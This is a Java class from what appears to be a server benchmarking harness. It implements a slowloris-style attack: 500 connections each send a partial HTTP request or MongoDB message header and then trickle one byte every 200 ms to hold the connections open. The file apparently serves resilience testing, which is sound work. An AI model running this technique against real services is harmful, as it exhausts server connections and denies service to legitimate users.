package dev.mayfly.bench.attacker;

import java.io.OutputStream;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;

/** Connections that begin a request and then send one byte after the other, slowly. */
final class SlowSenders implements Attack {
  private static final int CONNECTIONS = 500;
  private static final long BYTE_MILLIS = 200;

  private final Port port;

  SlowSenders(Port port) {
    this.port = port;
  }

  @Override
  public void start(Arena arena) {
    arena.threads(CONNECTIONS, thread -> trickle(arena));
  }

  private void trickle(Arena arena) throws Exception {
    try (Socket socket = arena.open(port)) {
      OutputStream out = socket.getOutputStream();
      out.write(beginning());
      arena.tally().count("begun");
      while (!arena.isOver()) {
        out.write('a');
        out.flush();
        Arena.pause(BYTE_MILLIS);
      }
    }
  }

  private byte[] beginning() {
    if (port == Port.MONGO) {
      return ByteBuffer.allocate(16)
          .order(ByteOrder.LITTLE_ENDIAN)
          .putInt(1000)
          .putInt(1)
          .putInt(0)
          .putInt(2013)
          .array();
    }
    return "GET /healthz HTTP/1.1\r\nHost: localhost\r\nX-Slow: ".getBytes(StandardCharsets.UTF_8);
  }
}
